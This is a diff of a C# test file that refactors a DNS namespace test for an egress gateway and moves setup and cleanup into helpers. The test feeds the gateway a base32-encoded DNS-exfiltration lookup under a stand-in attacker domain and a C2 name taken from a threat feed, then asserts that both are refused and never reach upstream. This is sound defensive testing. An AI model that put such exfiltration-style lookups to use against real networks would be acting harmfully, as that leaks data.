@@ -1,10 +1,10 @@
-using System.Diagnostics;
 using System.Net;
 using Corral.Gateway.FlowLog;
 using Corral.Gateway.Hosting;
 using Corral.Gateway.NameService;
 using Corral.Gateway.Tests.Support;
 using Corral.Policy;
+using Corral.Testing;
 
 namespace Corral.Gateway.Tests;
 
@@ -18,9 +18,7 @@ public sealed class DnsNamespaceTests(ITestOutputHelper output)
     [Fact]
     public async Task An_agent_namespace_resolving_through_the_gateway_never_sends_a_refused_name_upstream()
     {
-        var missing = new[] { "ip", "python3", "getent" }.Where(p => !CommandLine.Exists(p)).ToArray();
-        if (missing.Length > 0 || Environment.UserName != "root")
-            Assert.Skip($"needs root and {string.Join(", ", missing.DefaultIfEmpty("nothing else"))}");
+        NetworkNamespaces.SkipUnlessRootWith("ip", "python3", "getent");
         var k = Random.Shared.Next(1, 250);
         var id = $"{Environment.ProcessId % 10000}{k}";
         var agentNs = $"crl-dnsa-{id}";
@@ -29,104 +27,74 @@ public sealed class DnsNamespaceTests(ITestOutputHelper output)
         var gatewayIp = $"10.214.{k}.1";
         var upstreamIp = $"198.18.{k}.2";
         var answerIp = $"198.18.{k}.9";
-        var etcNetns = $"/etc/netns/{agentNs}";
-        var cleanup = new List<string[]>();
-        var folder = Directory.CreateTempSubdirectory("corral-dns-netns-").FullName;
-        Process? nameServer = null;
-        try
+        using var folder = new TempFolder("corral-dns-netns-");
+        await using var topology = new NetworkNamespaces();
+        await topology.AddAsync(agentNs);
+        await topology.AddAsync(upstreamNs);
+        await topology.LinkAsync(agentNs, vethAgentRoot, vethAgent, $"{gatewayIp}/30", $"10.214.{k}.2/30");
+        await topology.LinkAsync(upstreamNs, vethUpRoot, vethUp, $"198.18.{k}.1/24", $"{upstreamIp}/24");
+
+        var queryLog = folder.File("queries.log");
+        topology.Start(upstreamNs, "python3", folder.Write("ns.py", NameServerScript), upstreamIp, answerIp, queryLog);
+        for (var i = 0; i < 100 && !File.Exists(queryLog); i++) await Task.Delay(100);
+        Assert.True(File.Exists(queryLog), "the logging name server did not start");
+
+        File.WriteAllText(folder.File("p.yaml"), $$"""
+            version: 1
+            name: dns-netns
+            defaultAction: deny
+            smartGroups:
+              agents: { cidrs: [10.214.{{k}}.0/30] }
+              platform: { cidrs: [198.18.{{k}}.0/24] }
+            webGroups:
+              platform-names: { domains: [login.platform.test, "*.models.platform.test"] }
+            threatGroups:
+              bad: { feeds: [threats.txt] }
+            rules:
+              - { name: deny-threats, priority: 1, source: [agents], destination: [bad], action: deny }
+              - { name: allow-platform-names, priority: 2, source: [agents], webGroups: [platform-names], action: permit, ports: [443] }
+              - { name: allow-platform-addresses, priority: 3, source: [agents], destination: [platform], action: permit, ports: [443] }
+              - { name: deny-internet, priority: 10, source: [agents], destination: [public-internet], action: deny }
+            dns: { mode: enforce }
+            """);
+        File.WriteAllText(folder.File("threats.txt"), "c2.evil.test\n");
+        var check = PolicyChecker.CheckFile(folder.File("p.yaml"));
+        Assert.True(check.Succeeded, string.Join("\n", check.Diagnostics));
+        var log = new CollectingFlowLog();
+        await using var gateway = new GatewayServer(check.Compiled!, new GatewayOptions
         {
-            if (!await TryAsync("ip", "netns", "add", agentNs)) Assert.Skip("cannot create network namespaces here (no CAP_SYS_ADMIN?)");
-            cleanup.Add(["ip", "netns", "del", agentNs]);
-            await RunAsync("ip", "netns", "add", upstreamNs);
-            cleanup.Add(["ip", "netns", "del", upstreamNs]);
-            await LinkAsync(agentNs, vethAgentRoot, vethAgent, $"{gatewayIp}/30", $"10.214.{k}.2/30");
-            await LinkAsync(upstreamNs, vethUpRoot, vethUp, $"198.18.{k}.1/24", $"{upstreamIp}/24");
+            Listen = new IPEndPoint(IPAddress.Loopback, 0),
+            Dns = new DnsOptions { Listen = new IPEndPoint(IPAddress.Parse(gatewayIp), 53), Upstream = new IPEndPoint(IPAddress.Parse(upstreamIp), 53) },
+            DialGuard = e => IPAddress.IsLoopback(e.Address),
+        }, new CollectingLoggerProvider(), flowLog: log);
+        gateway.Start();
 
-            // A veth pair from the root namespace into ns, addressed on both ends, both up (and the namespace's loopback).
-            async Task LinkAsync(string ns, string rootEnd, string nsEnd, string rootCidr, string nsCidr)
-            {
-                await RunAsync("ip", "link", "add", rootEnd, "type", "veth", "peer", "name", nsEnd, "netns", ns);
-                cleanup.Add(["ip", "link", "del", rootEnd]);
-                await RunAsync("ip", "addr", "add", rootCidr, "dev", rootEnd);
-                await RunAsync("ip", "link", "set", rootEnd, "up");
-                foreach (var inside in new[] { new[] { "addr", "add", nsCidr, "dev", nsEnd }, ["link", "set", nsEnd, "up"], ["link", "set", "lo", "up"] })
-                    await RunAsync("ip", ["netns", "exec", ns, "ip", .. inside]);
-            }
+        topology.SetResolver(agentNs, $"nameserver {gatewayIp}\noptions timeout:2 attempts:1\n");
 
-            var queryLog = Path.Combine(folder, "queries.log");
-            File.WriteAllText(Path.Combine(folder, "ns.py"), NameServerScript);
-            nameServer = Process.Start(new ProcessStartInfo("ip", ["netns", "exec", upstreamNs, "python3", Path.Combine(folder, "ns.py"), upstreamIp, answerIp, queryLog])
-            { RedirectStandardOutput = true, RedirectStandardError = true })!;
-            for (var i = 0; i < 100 && !File.Exists(queryLog); i++) await Task.Delay(100);
-            Assert.True(File.Exists(queryLog), "the logging name server did not start");
-
-            File.WriteAllText(Path.Combine(folder, "p.yaml"), $$"""
-                version: 1
-                name: dns-netns
-                defaultAction: deny
-                smartGroups:
-                  agents: { cidrs: [10.214.{{k}}.0/30] }
-                  platform: { cidrs: [198.18.{{k}}.0/24] }
-                webGroups:
-                  platform-names: { domains: [login.platform.test, "*.models.platform.test"] }
-                threatGroups:
-                  bad: { feeds: [threats.txt] }
-                rules:
-                  - { name: deny-threats, priority: 1, source: [agents], destination: [bad], action: deny }
-                  - { name: allow-platform-names, priority: 2, source: [agents], webGroups: [platform-names], action: permit, ports: [443] }
-                  - { name: allow-platform-addresses, priority: 3, source: [agents], destination: [platform], action: permit, ports: [443] }
-                  - { name: deny-internet, priority: 10, source: [agents], destination: [public-internet], action: deny }
-                dns: { mode: enforce }
-                """);
-            File.WriteAllText(Path.Combine(folder, "threats.txt"), "c2.evil.test\n");
-            var check = PolicyChecker.CheckFile(Path.Combine(folder, "p.yaml"));
-            Assert.True(check.Succeeded, string.Join("\n", check.Diagnostics));
-            var log = new CollectingFlowLog();
-            await using var gateway = new GatewayServer(check.Compiled!, new GatewayOptions
-            {
-                Listen = new IPEndPoint(IPAddress.Loopback, 0),
-                Dns = new DnsOptions { Listen = new IPEndPoint(IPAddress.Parse(gatewayIp), 53), Upstream = new IPEndPoint(IPAddress.Parse(upstreamIp), 53) },
-                DialGuard = e => IPAddress.IsLoopback(e.Address),
-            }, new CollectingLoggerProvider(), flowLog: log);
-            gateway.Start();
-
-            if (!Directory.Exists("/etc/netns")) cleanup.Insert(0, ["rmdir", "/etc/netns"]); // only when empty: another test's files stay
-            Directory.CreateDirectory(etcNetns);
-            cleanup.Insert(0, ["rm", "-rf", etcNetns]);
-            File.WriteAllText(Path.Combine(etcNetns, "resolv.conf"), $"nameserver {gatewayIp}\noptions timeout:2 attempts:1\n");
-
-            async Task<(int Code, string Out)> Resolve(string name)
-            {
-                var (code, stdout, stderr) = await CommandLine.RunAsync("ip", "netns", "exec", agentNs, "getent", "ahostsv4", name);
-                output.WriteLine($"{name}: {code} {stdout}{stderr}");
-                return (code, stdout);
-            }
-            var platform = await Resolve("login.platform.test");
-            var models = await Resolve("eastus.models.platform.test");
-            var exfil = await Resolve("mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpiyq.collector.attacker.test");
-            var threat = await Resolve("c2.evil.test");
-
-            Assert.Equal(0, platform.Code);
-            Assert.Contains(answerIp, platform.Out);
-            Assert.Equal(0, models.Code);
-            Assert.NotEqual(0, exfil.Code);
-            Assert.NotEqual(0, threat.Code);
-            var reached = File.ReadAllLines(queryLog);
-            output.WriteLine("upstream saw: " + string.Join(", ", reached));
-            Assert.Contains("login.platform.test", reached);
-            Assert.DoesNotContain(reached, q => q.Contains("attacker") || q.Contains("evil"));
-            var refused = log.Records.Where(r => r.Event == FlowEvent.Dns && r.Dns is { Answered: false }).Select(r => r.Host).ToHashSet();
-            Assert.Contains("c2.evil.test", refused);
-            Assert.Contains(refused, h => h!.EndsWith(".collector.attacker.test"));
-            Assert.All(log.Records.Where(r => r.Event == FlowEvent.Dns), r => Assert.Equal(IPAddress.Parse($"10.214.{k}.2"), r.Source.Address));
-        }
-        finally
+        async Task<(int Code, string Out)> Resolve(string name)
         {
-            if (nameServer is { HasExited: false }) nameServer.Kill(entireProcessTree: true);
-            nameServer?.Dispose();
-            foreach (var command in cleanup) await TryAsync(command[0], command[1..]);
-            Directory.Delete(folder, recursive: true);
+            var (code, stdout, stderr) = await NetworkNamespaces.ExecAsync(agentNs, "getent", "ahostsv4", name);
+            output.WriteLine($"{name}: {code} {stdout}{stderr}");
+            return (code, stdout);
         }
+        var platform = await Resolve("login.platform.test");
+        var models = await Resolve("eastus.models.platform.test");
+        var exfil = await Resolve("mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpiyq.collector.attacker.test");
+        var threat = await Resolve("c2.evil.test");
+
+        Assert.Equal(0, platform.Code);
+        Assert.Contains(answerIp, platform.Out);
+        Assert.Equal(0, models.Code);
+        Assert.NotEqual(0, exfil.Code);
+        Assert.NotEqual(0, threat.Code);
+        var reached = File.ReadAllLines(queryLog);
+        output.WriteLine("upstream saw: " + string.Join(", ", reached));
+        Assert.Contains("login.platform.test", reached);
+        Assert.DoesNotContain(reached, q => q.Contains("attacker") || q.Contains("evil"));
+        var refused = log.Records.Where(r => r.Event == FlowEvent.Dns && r.Dns is { Answered: false }).Select(r => r.Host).ToHashSet();
+        Assert.Contains("c2.evil.test", refused);
+        Assert.Contains(refused, h => h!.EndsWith(".collector.attacker.test"));
+        Assert.All(log.Records.Where(r => r.Event == FlowEvent.Dns), r => Assert.Equal(IPAddress.Parse($"10.214.{k}.2"), r.Source.Address));
     }
 
     /// <summary>A name server that logs each question's name (one a line) and answers it with one A record.</summary>
@@ -152,8 +120,4 @@ public sealed class DnsNamespaceTests(ITestOutputHelper output)
                 body += bytes([0xC0, 0x0C, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4]) + socket.inet_aton(answer)
             s.sendto(header + body, peer)
         """;
-
-    private static Task RunAsync(string program, params string[] args) => CommandLine.MustRunAsync(program, args);
-
-    private static Task<bool> TryAsync(string program, params string[] args) => CommandLine.SucceedsAsync(program, args);
 }
